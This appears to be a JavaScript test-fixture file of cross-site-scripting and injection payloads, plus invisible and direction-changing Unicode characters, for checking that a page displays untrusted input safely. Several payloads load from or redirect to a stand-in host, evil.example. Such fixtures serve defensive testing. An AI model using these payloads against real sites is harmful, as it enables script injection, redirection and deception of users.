// Texts that want to be more than texts: wherever clients may put one, the page shows what it is.
"use strict";

// Those that want to run, or to load something. Each would set window.injected, or ask another host.
const RUNNING = [
  `<img src=x onerror="window.injected=1">`,
  `</script><script>window.injected=2</script>`,
  `"><svg/onload=window.injected=3>`,
  `javascript:window.injected=4`,
  `' onmouseover='window.injected=5' x='`,
  `<a href="javascript:window.injected=6" autofocus onfocus=window.injected=6>x</a>`,
  `<iframe srcdoc="<script>parent.injected=7</script>"></iframe>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/"><form action=x><button>y</button></form>`,
  `<details open ontoggle=window.injected=8>`,
  "${window.injected=9}{{window.injected=9}}",
  `&lt;img src=x onerror=window.injected=10&gt;`,
  `__proto__`,
  `constructor`,
];

// Those that want to be read as something else: they turn directions, take no room, or end lines. As they
// are, and how the page has to show them.
const UNSEEN = [
  ["right-to-left override", "exe.\u202Egpj", "exe.\\u{202e}gpj"],
  ["isolates", "a\u2066b\u2069c", "a\\u{2066}b\\u{2069}c"],
  ["no width", "pay\u200Bload", "pay\\u{200b}load"],
  ["byte order mark", "\uFEFFqueue", "\\u{feff}queue"],
  ["tags", "ok\u{E0041}", "ok\\u{e0041}"],
  ["NUL", "a\0b", "a\\0b"],
  ["terminal", "\x1b[31mred", "\\u{1b}[31mred"],
  ["line separator", "one\u2028two", "one\\u{2028}two"],
];

module.exports = { RUNNING, UNSEEN };
